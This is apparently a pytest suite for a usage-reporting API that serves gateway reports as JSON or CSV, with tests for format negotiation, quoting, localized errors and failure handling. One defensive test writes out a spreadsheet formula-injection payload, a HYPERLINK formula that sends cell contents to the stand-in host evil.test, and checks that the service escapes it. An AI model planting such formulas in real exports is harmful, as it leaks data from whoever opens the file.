"""Usage on both of its addresses: JSON and CSV, refusals by field, in the caller's language."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import msgspec
import pytest
from api_world import World, client_of

from assistant_api.gateway import GatewayError, GatewayUnreachableError
from assistant_api.usage import service
from assistant_api.usage.schemas import MAX_PERIOD_DAYS, MAX_ROWS, SUMS
from assistant_gateway.usage import query as usage_query
from assistant_gateway.usage import report as usage_report

PATHS = ("/v1/usage", "/api/v1/usage")


def sums(**changes: Any) -> dict[str, Any]:
    numbers = {**dict.fromkeys(SUMS, 0), "cost": "0.000190", "currency": "USD", "estimated_cost": "0.000000"}
    return {**numbers, "requests": 1, **changes}


def report(*rows: dict[str, Any], groups: tuple[str, ...] = ("day",), **changes: Any) -> bytes:
    fields = {
        "object": "usage",
        "from": "2026-11-01T00:00:00Z",
        "to": "2026-12-01T00:00:00Z",
        "time_zone": "UTC",
        "group_by": groups,
        "as_of": "2026-11-24T12:00:00Z",
        "data": rows,
        "totals": [sums()],
        "pending": {"totals": [sums(requests=2)], "complete": True},
        "next_cursor": None,
        **changes,
    }
    return msgspec.json.encode(fields)


@pytest.mark.parametrize("path", PATHS)
async def test_json_is_the_gateways_report_byte_by_byte(client: httpx.AsyncClient, world: World, path: str) -> None:
    """Parameters go there as they came, repeated ones too."""
    world.gateway.report = b'{ "object":  "usage" }'
    answer = await client.get(path, params=[("group_by", "day"), ("group_by", "user"), ("user", "ada")])
    assert (answer.status_code, answer.content) == (200, b'{ "object":  "usage" }')
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["cache-control"] == "no-store"
    assert world.gateway.asked_usage == [[("group_by", "day"), ("group_by", "user"), ("user", "ada")]]


@pytest.mark.parametrize("how", [{"params": {"format": "csv"}}, {"headers": {"accept": "text/csv"}}])
async def test_csv_has_the_same_figures_and_says_what_it_lacks(
    client: httpx.AsyncClient, world: World, how: dict[str, Any]
) -> None:
    """By parameter or by header; as many rows as there can be; calls that the ledger lacks are in a header."""
    row = {"day": "2026-11-02", "user": None, **sums(input_tokens=11)}
    world.gateway.report = report(row, groups=("day", "user"), next_cursor="more")
    answer = await client.get("/v1/usage", **how)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.headers["x-next-cursor"] == "more"
    assert (answer.headers["x-usage-as-of"], answer.headers["x-usage-pending-requests"]) == (
        "2026-11-24T12:00:00Z",
        "2",
    )
    head, only = csv.reader(io.StringIO(answer.text))
    assert head == ["day", "user", *SUMS]
    assert only == ["2026-11-02", "", "1", "11", "0", "0", "0", "0.000190", "USD", "0", "0.000000", "0"]
    assert world.gateway.asked_usage == [[("limit", str(MAX_ROWS))]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "  =", "＝", "＋", "－", "＠"])  # noqa: RUF001
async def test_no_name_becomes_a_formula_in_a_spreadsheet(client: httpx.AsyncClient, world: World, start: str) -> None:
    """`user` is whatever callers send: a table of it is opened by somebody with more rights than they."""
    hostile = f'{start}HYPERLINK("http://evil.test/?"&A1,"x")'
    world.gateway.report = report({"user": hostile, **sums()}, groups=("user",))
    answer = await client.get("/v1/usage", params={"format": "csv"})
    _, row = csv.reader(io.StringIO(answer.text, newline=""))
    assert row[0] == f"'{hostile}"


async def test_quotes_commas_and_lines_stay_within_their_cell(client: httpx.AsyncClient, world: World) -> None:
    """As RFC 4180 has it; figures stay numbers."""
    world.gateway.report = report({"user": 'a",\n"b', **sums()}, groups=("user",))
    rows = list(csv.reader(io.StringIO((await client.get("/v1/usage?format=csv")).text, newline="")))
    assert len(rows) == 2
    assert rows[1][:2] == ['a",\n"b', "1"]


@pytest.mark.parametrize(
    ("accept", "wanted"),
    [
        (None, False),
        ("*/*", False),
        ("text/csv", True),
        ("text/csv, application/json;q=0.5", True),
        ("application/json, text/csv", False),
        ("text/csv;q=0.4, */*", False),
        ("text/csv, */*;q=0.1", True),
        ("text/csv;q=x", False),
        ("text/csv;q=0", False),
        (";;,,", False),
        ("text/html", False),
    ],
)
def test_the_format_is_negotiated(accept: str | None, *, wanted: bool) -> None:
    """JSON unless a table is named and preferred."""
    assert service.prefers_csv(accept) is wanted


async def test_the_parameter_overrules_the_header(client: httpx.AsyncClient, world: World) -> None:
    """A link in a browser cannot set a header."""
    world.gateway.report = report()
    answer = await client.get("/v1/usage?format=json", headers={"accept": "text/csv"})
    assert answer.headers["content-type"] == "application/json"


@pytest.mark.parametrize("query", ["format=xml", "format=csv&format=json", "format="])
@pytest.mark.parametrize("path", PATHS)
async def test_an_unknown_format_is_a_400(client: httpx.AsyncClient, world: World, path: str, query: str) -> None:
    """The gateway is not asked for nothing."""
    answer = await client.get(f"{path}?{query}")
    assert answer.status_code == 400
    assert "format" in answer.text
    assert world.gateway.asked_usage == []


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("unknown_parameter", "ist kein bekanntes Feld"),
        ("repeated_parameter", "mehr als einmal"),
        ("invalid_date", "2026-01-31"),
        ("invalid_period", "laufende Monat"),
        ("period_too_long", "400 Tage"),
        ("invalid_group_by", "day, assistant, user, model, provider, operation, purpose"),
        ("invalid_limit", "zwischen 1 und 1000"),
        ("invalid_cursor", "unzulässigen Wert"),
        ("something_new", "unzulässigen Wert"),
    ],
)
async def test_a_bad_parameter_is_named_in_the_callers_language(
    client: httpx.AsyncClient, world: World, code: str, words: str
) -> None:
    """The gateway speaks English; callers of this API may not."""
    world.gateway.report = GatewayError(400, code, "English.", param="from")
    headers = {"accept-language": "de"}
    problem = (await client.get("/api/v1/usage", headers=headers)).json()
    error = (await client.get("/v1/usage", headers=headers)).json()["error"]
    assert (problem["status"], problem["field"], problem["code"]) == (400, "from", "invalid_field")
    assert (error["param"], error["code"], error["type"]) == ("from", "invalid_field", "invalid_request_error")
    assert words in problem["detail"]
    assert problem["detail"] == error["message"]


def test_what_is_said_here_of_the_gateway_is_true() -> None:
    """The parts do not import each other, so their numbers could part."""
    assert MAX_ROWS == usage_query.MOST
    assert MAX_PERIOD_DAYS == usage_query.LONGEST_DAYS
    assert usage_report.Sums.__struct_fields__ == SUMS


@pytest.mark.parametrize(
    ("error", "status", "code"),
    [
        (GatewayUnreachableError("10.0.0.1"), 503, "gateway_unreachable"),
        (GatewayError(503, "usage_unavailable", "away", 5), 503, "usage_unavailable"),
        (GatewayError(500, "internal_error", "x"), 503, "usage_unavailable"),
        (GatewayError(404, "policy_not_found", "x"), 503, "not_ready"),
        (GatewayError(401, "invalid_api_key", "x"), 502, "gateway_refused"),
    ],
)
async def test_failures_say_whether_to_try_again(
    client: httpx.AsyncClient, world: World, error: Exception, status: int, code: str
) -> None:
    """In the envelope of the path, and nothing of what is inside."""
    world.gateway.report = error
    problem, envelope = [await client.get(path) for path in reversed(PATHS)]
    assert problem.status_code == envelope.status_code == status
    assert problem.json()["code"] == envelope.json()["error"]["code"] == code
    assert ("retry-after" in problem.headers) is (status == 503)
    assert "10.0.0.1" not in problem.text


@pytest.mark.parametrize("content", [b"", b"[]", b'{"data": 1}', b"\xff"])
async def test_a_report_that_is_none_makes_no_table(client: httpx.AsyncClient, world: World, content: bytes) -> None:
    """An older gateway, or something in between."""
    world.gateway.report = content
    answer = await client.get("/api/v1/usage?format=csv")
    assert (answer.status_code, answer.json()["code"]) == (503, "usage_unavailable")


@pytest.mark.parametrize(
    ("pending", "said"),
    [(None, "unknown"), ({"totals": [{"requests": 3}], "complete": False}, "3+")],
)
async def test_what_a_table_lacks_is_never_told_as_nothing(
    client: httpx.AsyncClient, world: World, pending: object, said: str
) -> None:
    """Not known and more than that are words of their own."""
    world.gateway.report = report(pending=pending)
    assert (await client.get("/v1/usage?format=csv")).headers["x-usage-pending-requests"] == said


@pytest.mark.parametrize("path", PATHS)
async def test_usage_needs_a_key(world: World, path: str) -> None:
    """As everything of a tenant does."""
    async with client_of(world, key=None) as client:
        assert (await client.get(path)).status_code == 401
    assert world.gateway.asked_usage == []


async def test_usage_is_described(client: httpx.AsyncClient) -> None:
    """Both addresses with every parameter and both kinds of answers."""
    paths = (await client.get("/schema/openapi.json")).json()["paths"]
    for path in PATHS:
        operation = paths[path]["get"]
        names = {parameter["name"] for parameter in operation["parameters"]}
        assert names == {*usage_query.PARAMETERS, "format"}
        assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
        assert operation["responses"]["200"]["content"]["application/json"]["schema"]["properties"]["totals"]


async def test_a_parameter_without_a_name_is_a_400(client: httpx.AsyncClient, world: World) -> None:
    """As any other that is not known: nothing is away."""
    world.gateway.report = GatewayError(400, "unknown_parameter", "English.", param="")
    answer = await client.get("/v1/usage?=1")
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "invalid_field")
